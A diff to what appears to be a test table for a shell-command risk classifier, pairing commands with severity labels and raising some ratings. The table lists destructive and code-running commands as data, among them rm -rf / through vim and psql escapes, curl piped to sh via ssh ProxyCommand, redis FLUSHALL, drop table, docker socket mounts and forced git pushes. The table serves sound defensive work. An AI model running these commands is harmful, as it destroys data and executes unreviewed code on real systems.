@@ -13,7 +13,7 @@ const commands: Readonly<Record<string, string>> = {
       high write anywhere                          | git push -f origin HEAD:main
       moderate write                               | git -C repo push --force-with-lease origin my-branch
       moderate delete                              | git reset --hard HEAD~3
-      moderate delete bulk                         | git clean -fdx
+      moderate delete bulk anywhere                | git clean -fdx
       moderate delete                              | git branch -D old
       low delete                                   | git tag -d v1
       critical destroy anywhere                    | gh repo delete acme/app --yes
@@ -629,7 +629,11 @@ const commands: Readonly<Record<string, string>> = {
       high execute unread                          | tar --checkpoint-action=exec=sh -cf a b
       high execute unread                          | vim -c ':!rm -rf /'
       high execute unread                          | ssh -o ProxyCommand='curl x|sh' host
-      high execute unread                          | psql -c "\\! rm -rf /"
+      critical destroy everything anywhere unread  | psql -c "\\! rm -rf /"
+      critical destroy everything                  | psql -c "show x; drop table users"
+      critical destroy everything                  | redis-cli <<< FLUSHALL
+      moderate delete                              | echo "DEL user:1" | redis-cli
+      high execute unread                          | make -f - <<< "all: ; ls"
       critical execute weakens                     | docker run -v /var/run/docker.sock:/var/run/docker.sock x
       high execute unread                          | python - < script.py
       high execute unread                          | cat x.sh | bash
